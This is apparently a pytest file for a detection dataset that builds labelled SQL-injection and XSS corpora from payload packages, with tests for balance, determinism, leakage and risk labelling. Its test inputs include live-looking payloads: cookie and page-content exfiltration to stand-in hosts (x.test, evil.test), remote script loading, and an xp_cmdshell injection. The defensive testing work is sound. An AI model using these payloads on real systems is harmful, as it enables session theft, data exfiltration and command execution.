"""The SQL-injection and XSS corpora read from real packages: valid, deterministic, leak-free, balanced.

Each source reads an installed package (the `corpora` extra); a test that needs one is skipped,
with the reason SourceMissing gives, only when that package is absent.
"""

from __future__ import annotations

import re
import statistics
import time
from collections import Counter
from pathlib import Path

import pytest

from fwyy_ollama.dataset.corpora import CATEGORIES, CorpusItem, Source, SourceMissing, web
from fwyy_ollama.dataset.explain import find_features
from fwyy_ollama.dataset.records import normalize_input
from fwyy_ollama.dataset.split import skeleton
from fwyy_ollama.report import Label

SOURCES = {s.name: s for s in web.SOURCES}


def _load(source: Source) -> list[CorpusItem]:
    try:
        return source.load()
    except SourceMissing as exc:
        pytest.skip(f"{source.name}: {exc}")


def _role_items(role: str) -> list[CorpusItem]:
    """Every item of the sources of `role`; skips when any of them is not installed."""
    return [item for s in web.SOURCES if s.role == role for item in _load(s)]


@pytest.mark.parametrize("name", sorted(SOURCES))
def test_source_loads_valid_items(name: str) -> None:
    source = SOURCES[name]
    items = _load(source)
    assert len(items) >= 12, f"{name} yields only {len(items)} items"
    assert source.package.split("==")[0] in items[0].source
    norms = set()
    for item in items:
        assert item.category in ("sqli", "xss") and item.category in CATEGORIES
        assert item.text.strip() and len(item.text) <= web.MAX_CHARS
        assert "\x00" not in item.text
        assert item.license == source.license
        assert item.source.startswith(source.package.replace("==", " ") + ": ")
        if item.label is not None:
            assert item.label.is_risky == item.risky
        if not item.risky:
            assert item.label is Label.SAFE
        norms.add(normalize_input(item.text))
    assert len(norms) == len(items), "duplicates after normalization"


def test_loading_is_deterministic_and_fast() -> None:
    for source in web.SOURCES:
        _load(source)
    web.clear_cache()
    first = [s.load() for s in web.SOURCES]
    web.clear_cache()
    start = time.process_time()  # CPU time: other jobs on the machine do not count
    again = [s.load() for s in web.SOURCES]
    assert time.process_time() - start < 10
    assert again == first


def test_roles_use_disjoint_packages() -> None:
    packages: dict[str, set[str]] = {"train": set(), "realworld": set()}
    for source in web.SOURCES:
        packages[source.role].add(source.package.split("==")[0])
    assert packages["train"] and packages["realworld"]
    assert not packages["train"] & packages["realworld"]
    assert len(SOURCES) == len(web.SOURCES), "source names are unique"


def test_realworld_shares_no_input_with_train() -> None:
    train = _role_items("train")
    realworld = _role_items("realworld")
    assert not {normalize_input(i.text) for i in train} & {normalize_input(i.text) for i in realworld}
    assert not {skeleton(i.text) for i in train} & {skeleton(i.text) for i in realworld}


@pytest.mark.parametrize("category", ["sqli", "xss"])
def test_realworld_is_sized_and_half_risky(category: str) -> None:
    items = [i for i in _role_items("realworld") if i.category == category]
    counts = Counter(i.risky for i in items)
    assert 50 <= len(items) <= 80
    assert abs(counts[True] - counts[False]) <= len(items) // 10


@pytest.mark.parametrize("category", ["sqli", "xss"])
def test_train_is_several_hundred_and_about_forty_percent_safe(category: str) -> None:
    items = [i for i in _role_items("train") if i.category == category]
    safe = sum(not i.risky for i in items) / len(items)
    assert len(items) >= 400
    assert 0.33 <= safe <= 0.5, f"{category}: {safe:.0%} safe"
    by_source = Counter(i.source.split(":")[0] for i in items)
    assert max(by_source.values()) <= 0.75 * len(items), "one package dominates"


@pytest.mark.parametrize("role", ["train", "realworld"])
@pytest.mark.parametrize("category", ["sqli", "xss"])
def test_length_does_not_give_the_verdict_away(role: str, category: str) -> None:
    items = [i for i in _role_items(role) if i.category == category]
    risky = [len(i.text) for i in items if i.risky]
    safe = [len(i.text) for i in items if not i.risky]
    ratio = statistics.median(safe) / statistics.median(risky)
    assert 0.5 <= ratio <= 2.0, f"median length safe/risky = {ratio:.2f}"


def test_lookalike_pairs_differ_only_by_escaping() -> None:
    """A payload echoed raw is risky, the same payload escaped in the same markup is safe."""
    items = _load(SOURCES["brs-kb-payloads"]) + _load(SOURCES["sqlmap-payloads"])
    raw = [i for i in items if i.risky and ("echoed raw" in i.source or "spliced" in i.source)]
    escaped = [
        i for i in items if not i.risky and ("HTML-escaped" in i.source or "quoted literal" in i.source)
    ]
    assert len(raw) >= 50 and len(escaped) >= 50
    assert all("&lt;" in i.text or "''" in i.text for i in escaped)
    wrapper_tags = re.compile(r"<(?!/?(?:p|b|td|h2)\b)[a-zA-Z]")
    assert all(wrapper_tags.search(i.text) if i.category == "xss" else "'" in i.text for i in raw)


def test_labels_follow_the_rubric_where_it_is_fixed() -> None:
    wapiti_sql = _load(SOURCES["wapiti-blind-sql"])
    assert all(i.label is Label.MEDIUM for i in wapiti_sql if "sleep(" in i.text.lower())
    sqlmap = _load(SOURCES["sqlmap-payloads"])
    unions = [i for i in sqlmap if i.risky and i.source.endswith("union_query.xml")]
    assert unions and all(i.label is Label.HIGH for i in unions)
    assert web._xss_label("<script>new Image().src='//x.test/?c='+document.cookie</script>") is Label.HIGH
    assert web._xss_label("<img src=x onerror=alert(1)>") is Label.MEDIUM
    assert web._xss_label("<script src=https://evil.test/x.js></script>") is Label.HIGH


def test_an_archive_that_cannot_be_fetched_is_a_source_missing(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path))
    monkeypatch.setitem(web.PINS, "sqlglot", "0.0.0.1")
    with pytest.raises(SourceMissing, match=r"sqlglot 0\.0\.0\.1: .*download failed"):
        web._files("sqlglot", "sqlglot/*.py")


def test_sqli_labels_follow_the_rubric() -> None:
    assert web._sqli_label("'") is Label.LOW
    assert web._sqli_label("' or 1=1--") is Label.HIGH
    assert web._sqli_label("') or ('a'='a") is Label.HIGH
    assert web._sqli_label("admin'--") is Label.HIGH
    assert web._sqli_label("'; exec master..xp_cmdshell") is Label.CRITICAL
    assert web._sqli_label("' UNION ALL SELECT") is Label.HIGH
    assert web._sqli_label(" and 2=0") is Label.MEDIUM
    assert web._sqli_label("' or 'x'='y") is None  # not a tautology: the rubric fixes nothing


@pytest.mark.parametrize(
    ("text", "category", "feature"),
    [
        ("1 AND 5=(SELECT COUNT(*) FROM ALL_USERS T1,ALL_USERS T2,ALL_USERS T3)", "sqli", "time"),
        ("1' AND GTID_SUBSET(CONCAT('q',(SELECT 1)),1) AND 'a'='a", "sqli", "error"),
        ("1 AND ASCII(SUBSTRING((SELECT CURRENT_USER),1,1))>64", "sqli", "boolean"),
        ("') or ('a'='a", "sqli", "tautology"),
        ("[8].find(confirm)", "xss", "alert"),
        ("<ScRiPt/src=//14.rs></sCrIpT>", "xss", "remote_script"),
        ("<script>navigator.sendBeacon('//evil.test',document.body.innerHTML)</script>", "xss", "exfil"),
    ],
)
def test_explain_names_the_features_of_real_payloads(text: str, category: str, feature: str) -> None:
    assert feature in [f.name for f, _ in find_features(text, category)]


@pytest.mark.parametrize(
    ("text", "feature"),
    [
        ("SELECT * FROM t WHERE 1=1 AND x = ?", "boolean"),
        ("select count(*) from store_sales, household_demographics, time_dim", "time"),
        ("1' OR 7351=UUID_TO_BIN(CONCAT('q',(SELECT 1)))", "tautology"),
    ],
)
def test_explain_does_not_invent_features_on_look_alikes(text: str, feature: str) -> None:
    assert feature not in [f.name for f, _ in find_features(text, "sqli")]
